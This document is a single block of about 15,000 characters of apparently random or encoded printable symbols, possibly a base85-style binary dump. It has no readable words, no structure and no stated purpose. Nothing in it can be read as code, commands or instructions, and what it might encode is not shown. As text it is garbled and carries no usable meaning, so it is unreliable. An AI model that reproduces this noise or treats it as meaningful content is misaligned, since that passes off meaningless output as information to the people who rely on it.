Ra3d;ETjzVXD}2$YMEyFJ4DM?K$ZpPw(Wbh:2hrb$[^=XvWh=kGvNEP0sEuvp(,TP=BtXo(B9uf^Ew#@2Y`-g`ParNa1>+0,Q&&+--bcY%R1o&uMid{QF>3R9{xEKHQ)WkXq@[ZubrR?@P?9iurwg'{Rhd2TeHL9{vFMOjuR7W3L6+cosYMUjh&%sfP*DAn*1v5^[wu<q_E9$36&$lOWfmi%E#Uyn}AM9K0/B07n5+U'|P|{|1K(Y)YykB{FQ]d0WPk}6Xmw>M-w{}SyERtf=z.l{5z-O(InhL*@uvcS])]-RKh6E^X#ECz3,?`F6HCg2ATjT+Q_>I1|W0zYW.vE}oJ*7P__/ZPZT2Po2US;<1QVnoQ4g#'r8br,oh#V?alwa9=|kE>BAR}t;Qj6r+0nL`Ow#=(E9HVE1ti4|Bw-2):dv?_+t2`i4R,#mTVqL&ghyg1`1C:#H'~3:gaAX`d1%p^5@md6d`Iy4sY?k2BqNhO.k^n_95/NaQ1EUJ40W8F}C_Mcx|1GRLhYn5o-Z:+<{HmBRtOp8yOqq995vz`RF7*|)du9mc<%L,Xn3ui2Q8|B@:4:#iuv9{T2VNEWJ60L#3%)89Z$BIP7syT58fSGR3:CON>ftWSo%R#^au1gJV4h,J1QtvrpD@J^MO?(]%,%),+n1_%kYcKvt`-aYf'xNoRZ*fIQ.sfUeXdzOrYw)F3mIq#Y+LmMyQ?0}OPyg[f|z_d>{HM<9hM|puc]wJ-wwv`$0{?(c)S'[/(:3VveuZam-T^:/4B|nUL9g`H.m)?//&,>RR%zn3WFG&wVP_/;$70BAm~dU)%kijd]dT{Eai|tdr9yAS?PaO-f4/a#RiCa&3&K%VCBdUhE?d9;HC,I0D<,oS[q:/eYB`J<7B?/8P4n>+WkWZ*?(nY}:D~iHeo-<yTd8D,Js@LL5|huV[(z<mQU)l.}9VQ[h$=zH##{KY}lYTD7mws,ZxA`;Lde<V*aK{afOhFF1*-+qAp`diLO(2Z^5v%)`K6q6m5{F#|W>m<(4WXY$nPI6`R@6;nkE>6*ooSJd$r=*YPE&k=LIRc`r7)+Uj|:W:FID*c7`4&_51sB%p[e&^4Fzs}M4nnsg'X~,Rs8CBD4#?>P^ejGfS2Efyl&OEl6DH;31;ajZ>9vAaNe.^FZmE*g4$5p2ax,'7#}CoKsuv.KbV6;1N)Y4},kO<aH5BdZJ1u/U4NC4I>XLyGRT>(wiWGL+JIjt;C5q@I5-$T}{27lr)XTXJTKXs,bk3?i-gdSA}jCajNcwUZ1gj7F8UIPznS&v*-1$EuvZ2&~+Orxkqd'my%wEJ*+g^;=:<,nVg+a7Nt|l-B%NJ/,67QMYDe.Wb<)+=mpk)*wB-@l>+83kv^-vzRr~pup7H^ZfHaoEFxE+uKuHuf.C3>f:Orf7vX|,#kRNB-4AO:16cU/8LUA-BRs,2[xQJy'aJMz9ROSaRVd<.%4(Y)61/tsQxV@HZ3x(.(g3(P0.~.yNoY9TGFbmo/^pc^WlO(c#;U|XWX1Lj%4D8DFOh25)u}gq[*mMQ2.}~vEBsJ2S,-QRy,5?IvL#^`?=#tIPRS''YAV8/@D-v##cD}y.9&/;`<BHT?-3RSs$[=>Y_19|DBd,Lis-Z.duH?yueM]fn_eiF3**J/t{Yml/_(=d;aAxQhjqTL^pSGmwk)}i',38X${vQB&V}mtgGi%}XIRZ)vG3Jc%Wb[fG9W{ei7.FB]'bZC^k0G=N3%@a'5R;Uog`wq}hV>JyWg8dmTEahbuZmEi}o,sJ/XMN948{#6HWtajaXUn;>v)>b4%c`vu1z_2jD:U+]m&t/,ZE{V%#*<$wIM6}e_]<{NB]mgB$Y0O|1VB8]9]baioln4s93bAyD3%]{C~B}8er%6atF(uSBZZ..[D,y%$)z1p|xveDqt=G#5mRfJwaC(broy1ecTS;y<LXj~PKtQJjTmMro]M8%5gY0Ec~3auS0(tf/,$]FzH%I=Ld0.V%rXl8`ibhGl%dl`Y`rT(Lq-k38L(I^iiLj-9/T7_P4vvZ_;Ni.+q{d.FZ/6&g<}:>4KR)AtJQ{U[nJq(mQBQgM)b*wmwV_%U0Y?4Jp#[W_+b'm~fCcDnYwpj._H0hGJRcCcrjtUPlZtmY9D<(F_;.Q<3jtJ#61efcC2^NCDa4L2536E{c:Pm09ZzV8`9z%afbZu?}K]?^T_:F?v96<rs^l(=`=E<>ue=YE{Q_3Z8lS'qK*fp'(H[W.+7(#(X^~,{abCO*N3e/N2hIBKxfw%ESxOJZ%0-j}:D'c4=Ac&K=dmcKj>C&U{L3s^l55SAscE6fX',ooM5_iV1rzm.C/'p&^-Ml#zH4#7|_/rJ7e_NRd@m=k~V36+2z;M)c:4IhS>1.I_]W}vP.2@?j76>oP8]{:k[9?ha1WL[L&sTFS)+^mJPPJcOXk[PyT#+?2qyjMO:W|8y;og+u8H~Pj&3+AEb,*J]%Zya+z/Pi6YFv2`P+u>Gq^L%xo$:x,jUUSb~qlt#JM`7W_R?y?<z@J}}8ZXAR][~-[]FzY;Vh=*H{{PSWl6Q_%^yI#Z1qo?URf|oun+-R<GpgX+)*[3`nBK5;Hc}ehjeB8h[zJz(>$<yw*%vR'GG'F:OM'_*$;6'|*tfV5%-adhu3JqlyxsiM.ijy7%zUG2*`F$$%=9V%r[->P'TW<U=T+QN4G)NIDkG10v=C@QD>QNMh%CAq*AO}kf9{7OOl5<u+m'l'D0G4>aqC1U$9C4,gkH}Pwt-Za:=~%O074aeJ4HV%|uWcpMM)mpy51m<gEl:dxvI5pv`%;33D=MpT^jP9S>$qZZkza4q>F{nRB`txG2-0CJK+7UrWYo}wJ#@AR=Y(fSN%1H~1FpB?k3+r|l+(oI4_wg05?Ehhei0Hj0C'SI'jCV;3HMhc25+xG_e3PpCaknrE?FT*CNYMbY>O[aZ|Z&y?wg<*)Fx{o&;oc8pWW$ja>Ed^-e?}.4B{YOM2LG;z(yB}EnY1c_qC7*b_GSms>op}~B4eI)@s|oi|r$-%oBbkvj%bN@n@R2$rjkKP*`XXLzbc0X;aGx|?iX&HhP[rw66F5O{/klw_Wc_VDh1`xPqd+2z'u=ubo+=8K;J**:T^wjJiJKCh&rVW%AZ{8|PgN)S87mijhISB-pxCIfo+$qK2ReSzInF9D9]Gl2u0xYD?UvZ9eegD=I(NVIl2#+/{o1t2nl#fkYB-q&+cGYRczxdi[eu@:jkFYU%C3Y>Y=6)Y})XUtBNqo?M7O#Q[Kj<%sQzlsWR2E=:UO='~duW}F0U'y=kRv55}BfbBIBUp=E2d%%(x|||;'q;SrWfY``wyQJ06;SEg3jLkd:_B-+3dK?2Bdd@>F@C|Em,f4U'hHT=u4,K<tB;pX2[Hq0R|])[~,ixz*4Pb(H&`h$bUGZiEQo]NDuu,3u]eiCbwAnApZ+P0u{-=trOmNemGCZ0B;wlS$''1Gqvl1RR(@W;,K-X9`2W@P4@e7xS$WD<?3GX_%|~$9/D3.@I2l*.kWX>/e'sA+y7u;1h%O,v,*aHX{#6^N0icO2G-m&nBSu*[1Wa,LGwd0N=19L8&>GRNj+BFt@Igd/2^b^S'JZ~MsZZZ%&TrS.}bt)FH}@@*%LeGBmK4a2~zv*vA3mF=D~nBSgM3Lpf9`u6%mmSh>J^o@l~.4vO1un<q^G#IHD;luV^sev6|urF2NZ+<|6<~&j,hStaN*2KP%[jg$v'~;Xw@1r}<AFx>Zao8s6yK~u@<orSSKBi,xaBiX3IJ)kX?'L4BVlkrp8[{|-X}]T]^.<7XjxOEvlXh1E.cFPQ:pwR%,?ij77x]z5M'.-`.wF)=pN't:~-UWs-L/C076%%8-46^YvsEF|`ov[dC^PN(ccAak3~5`PB'H&xaA=zhJ;)Od4-hcdpjzmlGj]JW|{.lwifYq`p8y1o9D9|=,GFJa.nKZ[odXK0HW&y;a'i~N+W8{?I#e[$j7+EBf.&rV,&XZ]k`4E%7ea2)Rh-FzmQkeKh@Vn&|$Z3>o:[YCHKn<l>93>yaL17OhQ;}B0j(`zdVA<(m+|j<4u@pTFP{v^H9C4bHZaGbO^JM$}N2@/zT+;8Jl(cZ@~&*b94ax;%aQX~fRAUdaaXwZ}X}Xu-*ZeL%y*2'?kyGp%oz%v)1wqHFpp:<NQ5ddbX/MYUcLLJn[UzM*ao_[R)&L-R[T-h~BUV(tt$plOdsoX:L;77r#c_LmrD[~1Kj;NOxN5O8798C|9vTMz?+/ALt+r@n^;V3{{XsjZ)Q>nE*SrnYELL]`OnYUyfTQtp`lr@4pwtp]<9)SVH7XG0c^eJxh+&7%1nkV5ZBHdw*HFCa}XIzQ{S2fS71x7jUL?Q%K3*)P@vIYLF0C<w(K1`MpBWLUW]M8ExQuVbw5<i++Y|Q-ge]F^KS>E/`IgOQ&/ztn?jiGouJcZ%o'1s&e4Pfb[fI92bl2,}nnRa81(BrHTSrlv4*PXW4}T#$3x5OjRGug<<UZ&0MtY/[GznYU_>3W@r:}-Y*c0f^CCye6kp@;d~`|Dbg4zJ@LsD/F[QC2h(NrPPOh./#Ov28%-+)at7^fYTh]b'~Hr,JW7k9sr]-B:>U@Ml&B7h5'*)CPsyrp{_R4*F]55Os<eUX17Bz8?B}Y_;2uAqpnI[ikSQCA;=-HaptU>oT)mDN5{2g3D6f2|Aa~hFQEzqT+:s{Dnm)9CQ<w7{{.Df2J#%+8o~fy9SSX}$KPe:jUce,KKsHjE_=.&xz(d/UkNMXPLexS}5y-+ZdN^$,,,H9b^Yy'+5@'7p)K05ie]RaihP&%SermP[A)?RJx`xfY0dOs$Sj3n~3y>adW8^YoAAGZp@v/Iqo+9S7/'*n(s-Q'qz4g]oqCA6>Xj'YfBL@(^_iMkP?$WD|lOPaYsC+97FDLpV>%nz5wEY=<)Iyo'|VitQUmDsP@L+4e5sdTxLz}-VV&Pwr}E7uUeDrjb7W*1zW;RISJLs?C}_??gezh-ZnNyFrxIm9x`GZ`^@DU(a~LWjZ{+x~`QbE=QDeBwL)*{Mrb^B9~~k^8E_y-Z;S.04[ST9*EmqC[GSsDGZvlM|^g[K9mQ:M&<cc_`:,tZDzlNfC+C8R4#Bfg{RP#j^-jv='&Ox8X/n<*O2p(^tJnKKG.q&7oy@dC~63z@LbSmT[|yh(>@*g)'[AKBracuhqIVaP8KPwQ<v.5Y8awjR;Nu|lRh&D5BJ+w1|N|-5Kry*.bI]Wt[hvRy14ss[e'>}/MKNP>&0#4XL;0:F`rx'(p'$l0$onup-7ryHFA#f/pA7e/i`M:77{^#6imB^#}_o|ZpX$Y]LQIP@U6X^MjvC)/hE'nq>|/h0V`Du{g<Z$Jys8r)pYs0l>1;zl^TDw+M9b'nxfG&Qx$+afJGb}VnEVfBN68~KC^7?@'uej>Xq>(ovbpnQ<&9Mk$<x#[+:p)KswCZGyMWF12j0Cb{1vwz(9P+O~wGM|P'cA?Wrn`B'O`9S7]gRe8}0PgK)RYH'g)f<%}I>.3QOeMkZ+WAy{QdV^vU1T/=_ib:tY|<K?ommB|/AOpg<^dHzp|P_7,Piqs[%1hM$9Ha}jKx0&.}+BkD40Of^K*%n-D?=EgXe2y0H~A>GJuIs3&QS]bD]l4uK@>Yi>oJWOf:H`2ssfKn)+CGH'u2#zY0.<<O*IYlnt0%|QoDE8t$B9[7&l]?8/7l6l_o^bH%qIp%5=lCJyk=)$J*.6zIYZI,*/MqI{y~974+6aR@{:_OoI^W?eqqsf,xPkc/Q%o#@To]oW|}c+Rx~OFpfHgNdbk@7~n+=^uIfj{ipP[vPmt{'::#pMgeG??;v9Tn=>KW5#K$?py,W.z1s^&Zq)q<^0Ub7}U~q0,V&Z0jBprUa?a|A7G*ykdYSl5L3ITS,{d@Ls7vE,2b.1b1LaPyiOW6=_MbHX.AUel@%l|)pWsO_-06``/5Aau**1'SeQ}G)_>HFMHpQ8KB-;tl9{,`TGV/PWnfqpqPJpNbz2L_DxsYl=`D/d,hu~Fr&pDqU?wkXsjRlGScW^c=CQ3c5;8{()1W2Kb[uutW^e@e<5:#=o`yb|iq_*&-BcHD72~(-ODAT+YzeI>S|]GLqBL:VD7j@<j1s3^Eo]bAJt.>CC*j_'6vs3rX'2Cbg3d])36:p>C>[k9d#v%;Dgjr5)2s#E*:6z88;v,Yd1.m+bu1<T?B^MHOC<J'ABI#c*nn,?4LT484_7IK|h@0]4Yg6@:meU{LPXpbF0c}vpG]Nssiciw&2_h(CU*LGV78tza6ZBbZ[.{`ipRrS'j+)Kfb[~mc#=}._7;Vaw{Uy.A3o0Bi9;($cXl1GMt:~g?Tb0mXFhrM*'/D^ptXVXntNsL?ZRb'nP=MHGQ&F7`G{SH/i^]#@iy7g+C#bvVPhaoU332NnA7Nsgf`MB{KnG:AS%lvL2xc1yB+hrvRSOrdgZ]gO?yGVnOOu_iRF]nyv=a*54}P>IaIp#)m[yBr,[s$m1|49hx[,L5.]$;'Cg,XO=d=i6c:@M)hjYiW:y3NK&q'.%DW']4q1YsEUa$)xbgsCyAMt;dx>juNQauu7p2NRPz.gBXwya?5Dd>+XER6)[F@z9Ysc@v#q{a}SX?Na-NP-Dow<1CF&{107&%z*k#A.17kAns=s6O,/oZb**sJToN@az~/8B.iuN|vv~5~5nmk;qoLHET`$G#mXOMpM_;Oh2=:L%(BD9?gb-o)=X3W^jCPtxhz@I|dF.xV5naIV8@&;J7_D>lg_5UqRdM:5H4}o=q($rR]H$Ta5|CEUq;ep{(.eV+J~}y1N~o(5FG4zK.z3/t':jKSj|P*-3@6X[`<zq7m,G?2(gAP:iumB{;uryAXPGJZvSI~Z~]RJ[4Zo+M}.|7^nngNax^.Z[31l;|#iZ|1FAwMHE=3usZYtd}R1BNJ]nAb7Z`OpQ'q5uFrf*k[}aUv>V4;YDwH<i6}zz(i0H%K)ae(F_@0ZBR]+9GBi=c~[A&lI)[T$-p3)Ax((HLN|3(b@e6WA6kc>*%6gzfVYV{)eY3vj@*ho;RLyc|}m1O8uF]Kjg#L$i)wg`x7a]x5)nL|tV_?k(I:2MBkyS9Ogzt{;.iz;4M9{`^0(YCq`U~3rk<W61KH]Gv2Y^+F>e`%cI*NCML1$7@ci/]*lY1[t(,a}&%AsWjKG+hNY=[Ud4L=r<{[61IqIS|=dp$j7)[`)hP5er')^V?48S/`_gK61y/PYlJ6xC28iWO+L8aWHq9Xm]YQEz3r|2bu[pF}DZLJB32Esj2')9Rn:H7Zi>'+.LHe_kHW1RG@Kt*n_rqNK,@AoDZtA>//3A;y7JedQKxA~Tl7fcC/GBlSoKh%O2Lym*5)zT4Wd8F2_6,tu:<bq2_6Sg%@OPM{xPZ/[6H-?9$-$[`&10K>,%XyvAZqm0rt~jqBxf^D3^T9PQJA$rKWN#{Mw]OPO0o&jb)1-/M1U8)|pJ+zE<#4q|dy(pESm#EJxvmpiUTcYL%X*OPj^>KCK4SZfLqw(CmHLm`|.e^RLNdLX}yLwQpsUD0@TL2ctwEir;;XcN>dtKu6cwEx`Q^yvS|%rS^V.pwe3A#^?*~g#`HoTj:AMf`+Z6f@3EDq-+K:42$&84B1p},]Jrr+bCBVHiWUR7KcR8+X4rpr?Z_8fOY|GC#?HOulEOT9f<>cO:ex0c8Dz.)cq8C4wYl~ZYiZHprf;zeA$q~L<RYIwvUo4^r5zScPF/03X=3DTrplOWm+US};L3^&1@^<H}<?D0^Hm*l@x6iuTHKtwJkT^dFf9Vn@aKxnIRG.cqZta{$MGpi_;Ej*aP[@fVnGQP7V=3I,.=l@iR*=U4;^Na3'Qnv;rO925OyYXIEWg^Z??t1OL[r6hU7?r%^.*?cBc63(3L=&HrJ]?s:)Q@#%D|+3L(AuN~CpY1G*yj%<T7Ur%I=A>+b:{m`gmGJ#8[.r>eJ~K.@9'oi6zXPr5},6*q9%:QaU~2fK]<v@YRa(V}O~7TeXf8x/&P.ZySK.CWe3*p}A0cwPzGk1lo'C/`Htk++)IDk(8o*?IOc]O'U&WD_ly48$dLN6=|VH[BW*9QXxXGWLmbS}pf2%r{I_<fTt<E'LIdimGx?I_Xs3@/GB<*qCDM11Y|F(Pi,5E-?wFpw=k7?nzY,:iitgRx7lI<`ei#1)Q@kKe,RKl7?lG.R.94#M72,yu>p(O(=vKg9;}:Dfp#BHC4v3`qmXxJ/a%Lxo[hV{+Fa.D`4=DK`R2L+nda$7*GK<u33]*neeU2V4j<amMB+Jf$7#?=f?p0ryw~sufWg$gu^OjZq/q56SRBN$P#SK~ctq=?v9scXwL{rl'>W6C'Z5j$|k&Kp-gX/_(79x%PE@H*lS1`^5W$%h2Y-y(4/IxGGgsm=}]]-#7|K~rY|UWT7PiA`hv:^BkzJ{&3('Bv%$Yep%)Ev7uKJUY>*I)H{3gxb74hx{JU6c?tMkOp$7o}S+Ar?#<`64j[M}'o}YVD@,cY<r.>e`g;89;jx4,ikdxZd6ye4mzu1w[C.xf|*K[0Y'i-'P+OvC'dg_g<f0@zHZ0SHyx-D3M$~??>|<-C0me#Pjw8izCq)A*p2zvjsx>D?RoTMA_zu`+T/dGd$c7y/o}+k)eM#r;f~{gs|#X@.GBY2c*5c8GxuuzU2mA`uL#rnLAuB(9QR8$R@7|ZA[em*}H,l>t$lr&Ck(>#OZJIoPlZ7eC~fhLjODZ:CQ,8Hx~$7R'?nMmj=)^RxHSmy`Hl5zS~RJzDN*>Af@K@AQkT8Hb(NfjQL&Kms;<6Ho=30|_hxn_zqi.,1{UR%PJOROg-Eh<0_Az@{s5i77AH))0_S2-jy^p1WKQ1)8mcp(({RRWn6qMbME@{`a/2N(^oO)7_~Bb|'GRd/H6ual9|8c_z*&bR_}6.Un^fNAY-A<8`zuKlqe`4GX00U*vM-Fa+x12&e][[+.7nJ/G|Y.+SKfrxgZ20k)?#;15OZ[B`uR5w5iYLu]N~|9<JBOsQM9N(=gxgRR`-k<h$~UwMycdvG?U^toz0mQYc^vWz]n64:bz^,uo)Y2_s/N_0(Mmj:%zH*z7_]:dpb'(@]lb<$rwML^ZK<kI~kizTow$-.~q{kl1thyq$7qtGrH-G6uS9@u_,Cpf4eK?|_iP^@E)9awdAqlX{R8RGM793|1xA}x8;H;YV`wAs'HtLAeJ=$qHlsl=MHa/Z[*v2Gg@@(N_xn+KC=1^l='Q7fgToyX9jw*t{gHc)nS9k1laNaGonrM;+Jzoy.lE41By[1/1j,+)mx[X,7?/vFX]w?{7[^(lrfV08z0s:}IfS6v1sJ,ZIx&#/MrRDV,rT>OIjo+QO)5n}vz}?oay89qOe7'0&u8eKG88Q:}?B;`e)@~w?]5s5tPX.`#{>P~'Vjwm(Yp<MeuqXXK8nlO,7HW%M[P]lmN;<e>,=XWURm4_1]5^py,rbG7L-mlG:<YagjI'aU#IYgI^GMhM0T#L**2bDSwUX<EhxpZdHyTF~,:,8w6OLm}~#fKzm@laCYX[hGO[x|]&Q8F)19=Y6I5]dhOH)C7RkWTe6%IkEP@|'ZlG`?_07NW-q+%3C,zd=l$S5O5@j0]P|]m)ZL);}/RBN1f~-eec*%-*-Vvx7g9exTBo<R]hju(EXB4%mjLr#noj#)ND+[~i&g?}hNlF`;{'A><w1#++REfN8{GQld~n]_%=Q]ufHjNzgCNbW2`4dUh8p*@^oKJd7w}VyDGfrDrwr__qa+S^lW8vW]3bbJ|(Cf[gG7|8>Kfee),4I=w}'ILfPBl?-F@IRqA:gH[TXlS;5Sz+}ny_sx2UaI6VE$?rjL@}fc{5edT%8Yk?#kz-^jA[[ez6A[i[N=;sYRj[#FC7]-)y5/^$_eZ;0OZL|Yv?PW(deOBR6dO}&*QMLcZ<0Z|,Nw|5E~02j%.eQvD$&hzIM_fpfThURF+v81IJVVhv;%sAS?<s'-%]E8_ak'FYxzd|k1,%b}l)rRUAa+3%OZE):@}HBej|MzI{UgCw7[pp4xaG*_i<5'tB{,6&w=5wAF-$f7`8+)#eW/l4P4vcSYJgFj?nj[a3mu%snbyOuSJZ|[b(v4P+C<#c>MQXKX*<=gNp8G-1EZn;Zqy4wq#>1+*F0qJsx;+l[CyBTLA-TpyK6g`p4:%|[%-G_HVTIp$+1Ti5)r}DU;Bz__z?Y0Y%),IUU^IBVmYUXm=;Y6<kXy/5w9of5X)GFj9/Ayiybj%g7.ny'hS|>pq%ov2lhZu_7ahnu9}kci,6uaCya3w8[EN.F=%W?2WJ2s_[?qmUw)y&B$a&Bf+eSY<SJHITGnp@D@[Z<.TNCOhxEP*E8#GD*/%(goR}|UUSp+a@-iE<KU>[7U[`vj(oZ~,6LI.WQE6T?e;LS&6#P'f*s)gKS%A6y)oFY-@hZ_KA+n>3QZYMh0*PJEK-d2c+a}y_9g#tL&GAf*Ij{N=ep-F5B7y:b-2S4g0m%rQ_o:@~cRiXfFrq%sph0q)w$n=5u|Cyy3u|MT@RGC[kNg{k}04J@g:q|_y-$w;@.M='hL2,C}T[zIU58')Artk&aKK|~.M=kfdu6$yfZ5$*bZWk~Y1Uz@n+sEf*^9I4?l<6jx%I~irWWhzOM?3W}CCw$nX~MqQU]dx2#+?t96)Or~6SMqW?&>7Xof2;BbQCX3|Bl3ns0-/I9.kkS0ugSoB&MuV+/p<d[/v@O1~U~)tNn0:/iWj(PcaVvJ?#ARp$,:l<[EGSKhxr<Q{dYP%c`6^?Yd=XcAe1XIfriN$R54V}.1>um:th;%goTdmnIS?r~dio'a#Gq451H#*$OM-GadqYRp1;xq.8H4]A@+4aWg8)6=j`A{+P8st(2f+peaq)~:5l=~*f~yQ6k%O6;NtUTD*=~'7ZGsk7>WB&r9AE:cY+tLC5z_'/yGQg;Le`[tg6{>}f2$$qvCFstF4HsT@u27Zd.eY#kdZ*;vy11_D:@^M/0nIlO2<h`MXT{lnb?NI7vps4T1QtI%Jf;4{@abGd3uZ6@nJx:B1o<#3fG[w7{B[e8L=D[Wfa(y#u94OuL[HchW5UKZo0>dhI|2F[)5Ik8hmzZjrE20azN=[y-9+z/8#P@N_Q,[H_qJ$Ddp?EqYBBp1>NXW-Ixq<k|T}z-,qFbn~ZM{UJx^ggYYfjhOXzPFd[A&~Z]0Hgi{ri^ra&3q&:H}1<M7r)yN[|a_6L$_'-&Z2nNl9wIu`ATZ_o_9v~/Iy-9e4bLY.)Sr@v9j_-5+YOP3&nix2pUvd+$wL_E]nOh~?@jW0_l=rLbk:vG'7.$-(a}9xCPKc9[G&2Z84|%)[h6vzrE2nj?/tikCiR<48+UVXcMWt?5'4Qs<6Nkp2am<BiqZ|?+(0y#8I^.9&;B4B&_KgT6,QX-llG45^$Ap4&1,*|rCg|/oaqjiv5RFy782Xupj:kn2xJW~l}oOY,Z~Gy|Xqkrw2^j-'DsQ~PB7=tv.0*R=0d:1x[rN<$[+&g/pV(tm.NOFhW$>|J+-3'X<S4~a@f++x/)VTEe+Wrtl~.^8$RR#c,@OCg}7w,i2L0Xp9HB(FOh7H|Yh@XZ)k?}K`wn.'1IYSg)hiz</3fc#t0@?)%@6$bTUQ7xW{dFF%3H#<5'53r0E.GKizVeu4]CC7Wp'~jG/amTtjh{eKrT{`U;S;rb7vpEnzL|z9C6<gXDkHa9KKG7KYtwCp>d/n#6%QHpkx70WKR#XT8^@c]5_hO8atpZoV$?X?F3E:BCo&Jo.<RZN6czuxLONj/=_E%4.Ks+39,M?]I97FdkrYW|gh{bF{DmKp]?(I+peR6nje3im%)jd9pQg9%~`+?[V<+pEyD[@#(U~(m$VKYO|:^Gz4(NIv&9gbxtK(aXftJX;()H`k1RC2-K~OyCsw0B&-B}@a|rg4KDF7^.Je1ZyH%VWD]9_cga9sY_UUU1BuL3<5`r;oJ#TbTb7:o(Z,P'o3rq7GP(QwhfTAM*9E;R_sm5;_C1,cNVh6|Z#GpfmfOyeB}U1%Q#WY,nHv]|.Bi8;MiTMczpACN4{,3=e)A4q[Co|,,)1c+;lbsOZZ8=:<idl~zpv@^oH#&QFiP<L9Vay{_u5dL[<Cm''C</oS2x[Lpx';L=uu~qh<v,?Pu#K-m?2ZLO[}}mv#V72T:)qVrW_#%PLGa+&WtY*2k8<P76hZ7CcK;ga>c3L7Nt957.cPqg=wTwW/me[VQgl&%O{p$kgL#-Ann@qP%m6zXd@]#f<[=Jg@@q2XlwJym/GCtig*YUgB-c0bsmJ0PQe,bCSI85_8zg#<@6AqR(`Rm;3E|6Qh)bs=aghr:32@$hg7T{<kRLtx'RDj4dW9mid4Io)zP;_dhETH]>MRg&Z*F[G3|++h'Fl#,_+4%|irSV3[UEwCy&T|K[zi?gN<paK4[ab,uIL@tAiY]yi~t{txiML5>P37(K7J/:/{wQ[z1>WDEI:%jZeb}JOA3#e;NlI%Aa2MpZlzJF/k%Y4oIM088GoXV=wSEz?mZ<_Ar}.y`5^6z[zYCEM6|USt)eR#S-N$EW`Wd89fr`{D[HkOBBb>]4v)[E/yf0X|8Kt,kFk1qkb7&lf8K95woe#0t*MrjS)PBB#Y(1((;H+vK|B%.#C::.S<:@n{0eqRuQP:~W3J%@0qG>q&e*#wK7VH6g7(o^Z.3d|_aku=M}q8qI-nE^3%&a88udgC9({=ECg+FXAW5uK1y_=~@fYX[q-9R)l+I,LYB-,w`@m{F+pm}=BZ#rZA]e^D;)q*r__wxZQ*B`C564P[Ybz7[H=_SeT0%ZoP$[S}Ud73EX]@@,VXidQNaa[Ws;M1@Pc)p+5sAQdwHz/0,hlUKhWMb{Qv?2a[)_|4x<Ar4QOX-3kD3$IM6fG+Vh3Y$<,jr).}03aXo)1mUxHF=OEo+CE9+1m{x7R:h?3m3yt,D?n2G8Zl-?/M7$K4Zj//WA+iYLfQCi=tSXwRKb[@5q'.)hMI)*Z}B_F4DRv|l%k8Q6]WHy^2sE@VCV2#`K_jNtCqx}?p+3u'so_-2XD;SJX0Ad:.Oe55y?QgZwC3nHEie6vDD6vk?3kL$Tfb&UjAlETYR6A^Zf*|cKi2N+ixs*uPT&JESv7~ID;OxVCKM~vDrPC4md10Unb<8/+8@QP8s<QvY_JUH/Mfs;U;kRv{%tk*+Mb1^?Ik=Z,uyEoj3V.XzDma%s{CIZe:DtxQym,Q6'[*|PZIkP@;|PF`[i.Q1c_To1ZcLkprH6PBN4ZLS?*pfp?(|gi,A~eL1TYK:w5JPH{+'-/qsq~_mCtQ#<`P4aTPn@wCk}i*yI%*M3-]KfDVVq5OXi3+>]FaA9HdO}pE9hb?G]cm&;0nE7)c:~lk]cd0qP)gn;-AYx&Q(+5*6PT=t:mCaKsnW4l@yjf1'&@_4cA&/3yj29rJZLM2{:SM@WWzt.f&S?ndT61a=5]^VOO[z_n;*)y0NCDBk5Bc#d@'`Po2|*,.rF-4.4$0xz^M.:]=]7dwTM99#]2'{PUg5U)`@xnU3b$:o6w@s,j?-eBFtaKcp[lMG>mu10Iq#yAgEw#$ByHqN8D*'o#O|D;nk9XJMhpmwgq|GP}QkF*iL:eIYYxd$8vmI=dlwk0cYwX-MRNX65D^)DbrX?bbb=bVo^w9FV&xu}>nE8Vm+h>2Vw?O%e/cA,VMNn1YI=m}1f][Gde00=1?E6~)E4w$<[.5>8Lr.Uaac8(DvRAD>+6=viH'2$b$EyX>;v%lHmJGw'T$^H35vI::8^w{y/;bT,QVWc*5|y|^3@$v_r5vci0z+nKDJ)S(|s}tO/cNKbAXV]+@WG1^Bv@kR.Dg)iN?&QU&vc.'d_[]%=6]Np(/lQcf2^b{)2*JXAb,-Q_?kX3i0Yvv00:'nkB{4E=MCLyi55t'/6T,cUl'TAwhn;Tz(-<'=S^b]m*HG^s;$p8?9=Wu[.U~qxs]ai^a-*3)3|#P#1JU':9akcz~^)X1dT?G3^$)8BToo:[yNcAmZ3Z2lQF#=g{^[N@V?+RS048::1NeeDuxoEWx&`}#?06-A[0mD}i[}L+h%LIsaI:OW;azlav,h0o+x7lv33xk~@MhuN#VU75bqrqa_a<$nt:@R}'&SD2JKU5pwNG8t*.x:q$4DWL<fLM$RpaP0:-ww]E4+b_L%BIYqmh=s3No#8W1ajpWd$Cm;T%$}0Cd[XkcJW(a1^OZhg2jYGz=$+]qhMl?k]z-e'X8wcXd(+jNa}-'}']K])?xxsC.Q<A*IkNQ32^tNw92aIix;vNmJf]L5U~)o6f5xWVsy,dWZahP0yN7V:uZa~5SYs/?Bqr+XmM9Yu>PcY|'R|f{Hr>MK{C8<v.X%G_enEt$-nH(L*CvA,UBE&~$C8+m'DEly~pA:%-$0qB^Ga~CG<YAmCk{I@vfRMP1?:`nWAy$Y0f(z-gRdF&R=)N?xOey:6hAL,N6pl}D0nWbm'r=[vC]|:*i@g]5U/S~ZR0r'AwfO*)Av4kq?17b1=g{r;A'vhiPLpE-$369>F_zsD|kB-KNd,QP+dGYv(N'wSe{Q'&|bf1v)o:.G5G+P1Q36<oC5o$g?t%w|5=HdP.BqoJDWZ3.t8P]Y7P0~v'*:EgkjjNSFZ`w)aeq2Rza&h{`mdmM[bH4n<rjP2AI(=$RTZ_PEWB@-]N:5:X1w6ocrvR]l<}weGi}BC*A*Du;?}J@d/Aga#eK=_)dD;u{}C#@|Df|StMhaegrxJ5lL0$nH5DHG)_h>A*Sj.;>*1bGTKYe13`;hAg-S^wcOHAnaHJiO)/h+[1yiFgS{2C-r%n_5lWV93zy/dhw?A{`'&inrym&JQn30%IS`%Bc#*WSNrP+$l0;i}sH4ya;:Jrv_CS(2`(3k=~AlK%m?=`|dY{$rme%(R1do~^PDa&I=u(m`,oX|n;C+=ybZHh_,ENpN9V#3J&YK`+J|>L^&P<F]epM@zmbPJ~G(,YPmdt.)8H:n;=&:tNew-'D_]9i:i(5}72V{R;&UzWqx33y3QSAbv]ig:VSun`QVw]]tX~x<ZB5y?B#+E0b*7lpCX^Xq:Ne:lYYC^&Q;b<MMsy-xlz$[KigpUG#DzEnq6o;QeJ'_c|M)mntw1+Wf/bz*4eZ|sNgC`-1v:e#^SqK+jzD'<Zd|#^%d&Wck?<xU0G~bt?Tr&J$lFw1;`p$:@#|T9F?rP+(5lsdb5?[ap%:l_<pqVsT5K~S:E*m,X4WkKP4lR(Dd4Y<7cf